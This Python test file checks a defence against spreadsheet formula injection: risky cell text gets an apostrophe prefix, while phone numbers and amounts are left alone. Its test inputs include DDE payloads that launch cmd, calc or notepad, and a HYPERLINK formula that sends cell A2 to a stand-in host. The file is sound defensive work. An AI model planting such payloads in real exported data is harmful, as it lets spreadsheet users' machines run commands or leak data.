"""Texts that a spreadsheet would run are written so that it shows them; numbers and phones are left alone."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tikissa.text.formula_texts import as_it_was, shown_as_text, would_run

TEXTS = st.text() | st.text("='+-@\t\r 0aA1(", max_size=8)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.invalid/?"&A2,"Pekka")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C notepad'!A1",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r@A1",
        " =1+1",
        "\ufeff=A1",
        "=1",
        "+A1",
        "-A1*2",
        "＝1+1",
        "-1+2",
        "- soita huomenna",
    ],
)
def test_what_would_run_is_shown_with_an_apostrophe(text: str) -> None:
    assert shown_as_text(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        *("+358 40 123 4567", "+358401234567", "+358 (0)40 123-4567", "+46 70 123 45 67, +358 9 1234"),
        *("-12,50", "-12.5", "- 3", "-5 %", "-12,50 €", "-12.50 EUR", "-1 234,56", "-1.5E-7", "+3"),
        *("-", "--", "+", "- -", "+ 358 40 1234567"),
        *("", "Matti", "a=b", "1+1", "matti@example.fi", "'t Hooft", "0401234567", "2-3"),
    ],
)
def test_numbers_phones_and_dashes_are_left_alone(text: str) -> None:
    assert shown_as_text(text) == text


@given(TEXTS)
def test_every_text_comes_back_as_it_was(text: str) -> None:
    assert as_it_was(shown_as_text(text)) == text


@given(TEXTS)
def test_nothing_that_is_written_would_run(text: str) -> None:
    assert not would_run(shown_as_text(text))


@given(st.floats(-1e12, 1e12), st.sampled_from([",", "."]))
def test_no_number_is_touched(number: float, mark: str) -> None:
    text = str(number).replace(".", mark)
    assert shown_as_text(text) == text
